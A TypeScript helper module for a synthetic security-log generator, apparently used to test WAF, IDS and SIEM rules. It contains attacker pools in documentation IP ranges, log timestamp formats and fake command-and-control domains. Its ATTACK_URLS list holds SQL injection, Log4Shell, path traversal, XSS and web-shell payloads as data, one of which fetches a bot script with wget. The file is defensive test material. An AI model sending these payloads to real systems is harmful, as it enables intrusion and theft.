import type { Rng } from '../rng.ts';
import type { GenContext, OrgAssets } from '../types.ts';

/**
 * Shared pieces of the generators: the attacker pool (documentation ranges only), victims inside an
 * organisation's fictional /24, time stamps in each format's syntax, and small vocabularies.
 */

/** Vietnamese local time, as sensors in the country write it. */
export const VN_OFFSET_MINUTES = 7 * 60;

/** 48 external attackers: 16 addresses in each of 198.51.100.0/24, 203.0.113.0/24, 192.0.2.0/24. */
export const ATTACKERS: readonly string[] = (() => {
  const out: string[] = [];
  const ranges = ['198.51.100', '203.0.113', '192.0.2'];
  for (let i = 0; i < 16; i++) ranges.forEach((r, k) => out.push(`${r}.${((i * 37 + k * 71) % 250) + 3}`));
  return out;
})();

/** An attacker: a few are very busy, most are occasional. */
export function attacker(rng: Rng): string {
  return rng.pickSkewed(ATTACKERS, 2.2);
}

export function ephemeralPort(rng: Rng): number {
  return rng.int(32768, 60999);
}

/** Addresses of an organisation's systems inside its /24. */
export function webServerIp(o: OrgAssets): string {
  return `${o.net}.10`;
}
export function dcIp(o: OrgAssets): string {
  return `${o.net}.20`;
}
export function mailIp(o: OrgAssets): string {
  return `${o.net}.25`;
}
export function firewallIp(o: OrgAssets): string {
  return `${o.net}.1`;
}
/** Some system of the organisation: a server most of the time, else a workstation. */
export function victimIp(rng: Rng, o: OrgAssets): string {
  return rng.chance(0.5) ? rng.pick([webServerIp(o), dcIp(o), mailIp(o), `${o.net}.30`, `${o.net}.31`]) : `${o.net}.${rng.int(40, 250)}`;
}
/** A host name under the organisation's domain (attributed through the domain asset). */
export function subHost(rng: Rng, o: OrgAssets): string {
  return `${rng.pick(['app01', 'app02', 'portal', 'mail', 'vpn', 'db01', 'erp', 'hrm'])}.${o.domain}`;
}

/** The event time: now, a little earlier (0–3 s). */
export function eventTime(ctx: GenContext): number {
  return ctx.now - ctx.rng.int(0, 3000);
}

const pad = (n: number, w = 2): string => String(n).padStart(w, '0');

/** Wall-clock fields of `ms` at an offset from UTC. */
function fields(ms: number, offsetMinutes: number): { y: number; mo: number; d: number; h: number; mi: number; s: number; ms: number } {
  const t = new Date(ms + offsetMinutes * 60_000);
  return { y: t.getUTCFullYear(), mo: t.getUTCMonth() + 1, d: t.getUTCDate(), h: t.getUTCHours(), mi: t.getUTCMinutes(), s: t.getUTCSeconds(), ms: t.getUTCMilliseconds() };
}

function offsetText(offsetMinutes: number, colon: boolean): string {
  const sign = offsetMinutes < 0 ? '-' : '+';
  const a = Math.abs(offsetMinutes);
  return `${sign}${pad(Math.floor(a / 60))}${colon ? ':' : ''}${pad(a % 60)}`;
}

/**
 * ISO 8601 with an explicit offset: `fraction` 3 (ms) or 6 (µs, the extra digits from `micro`),
 * offset `Z` when 0 and `zulu`, else `+hhmm` or `+hh:mm`.
 */
export function isoTime(ms: number, opts: { offsetMinutes: number; fraction: 3 | 6; colon: boolean; zulu?: boolean; micro?: number }): string {
  const f = fields(ms, opts.offsetMinutes);
  const frac = opts.fraction === 3 ? pad(f.ms, 3) : pad(f.ms, 3) + pad(opts.micro ?? 0, 3);
  const zone = opts.offsetMinutes === 0 && opts.zulu ? 'Z' : offsetText(opts.offsetMinutes, opts.colon);
  return `${f.y}-${pad(f.mo)}-${pad(f.d)}T${pad(f.h)}:${pad(f.mi)}:${pad(f.s)}.${frac}${zone}`;
}

const MONTH_NAMES = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** RFC 3164 `Mmm dd hh:mm:ss` (day space-padded) in Vietnamese local time. */
export function bsdTime(ms: number): string {
  const f = fields(ms, VN_OFFSET_MINUTES);
  return `${MONTH_NAMES[f.mo - 1]!} ${String(f.d).padStart(2, ' ')} ${pad(f.h)}:${pad(f.mi)}:${pad(f.s)}`;
}

/** CEF `rt` in the `Mmm dd yyyy hh:mm:ss` form (zoneless, Vietnamese local time). */
export function cefDate(ms: number): string {
  const f = fields(ms, VN_OFFSET_MINUTES);
  return `${MONTH_NAMES[f.mo - 1]!} ${pad(f.d)} ${f.y} ${pad(f.h)}:${pad(f.mi)}:${pad(f.s)}`;
}

/** Vietnamese-style account names (`annv`) and the usual brute-force targets. */
export const LOCAL_USERS = ['annv', 'hoangnt', 'linhpt', 'dungtv', 'maihtt', 'quanlm', 'tuanda', 'ngocbt', 'kiennd', 'hanhvt'] as const;
export const GUESSED_USERS = ['root', 'admin', 'administrator', 'oracle', 'postgres', 'test', 'ubuntu', 'user', 'guest', 'ftpuser', 'support', 'git'] as const;

/** A plausible MD5 / SHA-1 / SHA-256 of a malware sample. */
export function hashes(rng: Rng): { md5: string; sha1: string; sha256: string } {
  return { md5: rng.hex(32), sha1: rng.hex(40), sha256: rng.hex(64) };
}

/** A short id such as Wazuh agents and sensors carry. */
export function agentId(o: OrgAssets, n: number): string {
  return String(((o.index * 7 + n) % 900) + 1).padStart(3, '0');
}

/** Escapes for CEF: header fields (`\` and `|`) and extension values (`\`, `=`, newlines). */
export function cefHeader(s: string): string {
  return s.replace(/\\/g, '\\\\').replace(/\|/g, '\\|');
}
export function cefValue(s: string): string {
  return s.replace(/\\/g, '\\\\').replace(/=/g, '\\=').replace(/\r?\n/g, '\\n');
}

/** Escapes an RFC 5424 PARAM-VALUE (`"`, `\`, `]`). */
export function sdValue(s: string): string {
  return s.replace(/[\\"\]]/g, (c) => `\\${c}`);
}

/** Web attack request paths (for WAF, IDS and web log rules). */
export const ATTACK_URLS = [
  "/index.php?id=1' UNION SELECT username,password FROM users--",
  '/wp-login.php',
  '/cgi-bin/luci/;stok=/locale?form=country',
  '/.env',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/api/v1/search?q=${jndi:ldap://198.51.100.77:1389/a}',
  '/admin/config.php',
  '/../../../../etc/passwd',
  '/search?q=<script>alert(document.cookie)</script>',
  '/owa/auth/x.js',
  '/HNAP1/',
  '/shell.php?cmd=wget%20http://203.0.113.50/bot.sh',
] as const;

export const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'sqlmap/1.8.4#stable (https://sqlmap.org)',
  'Mozilla/5.0 zgrab/0.x',
  'python-requests/2.31.0',
  'curl/8.5.0',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
] as const;

/** Fictional command-and-control and phishing names (documentation TLDs only). */
export const BAD_DOMAINS = ['update-check.example.com', 'cdn-sync.example.net', 'login-verify.example.org', 'mail-secure.example.com', 'vn-tax-refund.example.net', 'static-img.example.org'] as const;
